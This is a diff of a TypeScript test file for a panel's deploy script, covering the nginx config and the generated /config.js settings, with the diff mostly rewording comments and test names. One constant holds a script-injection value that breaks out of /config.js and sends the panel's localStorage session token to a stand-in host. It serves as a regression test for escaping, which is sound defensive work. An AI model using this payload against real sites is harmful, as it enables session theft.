@@ -6,11 +6,11 @@ import { afterAll, describe, expect, it } from 'vitest';
 import { parsePolicy, readDeployHeaders } from './deploy-headers';
 
 /**
- * Security case 15 and the start of the server: what deploy/serve-nginx.sh renders from
- * deploy/nginx.conf.template — the policy the decision record documents
- * (docs/decisions/0007-security-headers.md), the other headers, the SPA fallback, the cache rules,
- * the masked access log — and the settings file it writes, or its refusal to start. nginx itself is
- * replaced by `true` here; tests/e2e/nginx.e2e.ts runs the panel under the real one.
+ * The start of the server: what deploy/serve-nginx.sh renders from deploy/nginx.conf.template — the
+ * policy the decision record documents (docs/decisions/0007-security-headers.md), the other
+ * headers, the SPA fallback, the cache rules, the masked access log — and the settings file it
+ * writes, or its refusal to start. nginx itself is replaced by `true` here; tests/e2e/nginx.e2e.ts
+ * runs the panel under the real one.
  */
 
 const scratch = mkdtempSync(join(tmpdir(), 'painel-deploy-config-'));
@@ -225,7 +225,7 @@ describe('the nginx config deploy/serve-nginx.sh renders', () => {
   });
 });
 
-/** Issue 23: the value that started the panel with a statement of the operator's choosing in /config.js. */
+/** A value that, written into /config.js unescaped, ran a statement of the operator's choosing in the panel. */
 const EXPLOIT =
   '"});location="https://x.example/?"+localStorage.getItem("anoreg-painel:sessao");//\nhttps://associados.anoreg.org.br/login';
 
@@ -271,7 +271,7 @@ describe('the settings file written at start (/config.js)', () => {
     ['PAINEL_IDLE_TIMEOUT_MIN', '07'],
     ['PAINEL_REMEMBER_ME_DAYS', '0'],
     ['PAINEL_REMEMBER_ME_DAYS', 'trinta'],
-  ])('issue 34: %s=%s stops the start with a message naming it', (name, value) => {
+  ])('%s=%s, a number the setting does not take, stops the start with a message naming it', (name, value) => {
     const started = start(liveBuild, { PAINEL_API_URL: 'https://api.exemplo.org.br', [name]: value });
     expect(started.code).not.toBe(0);
     expect(started.output).toContain(`${name} inválida`);
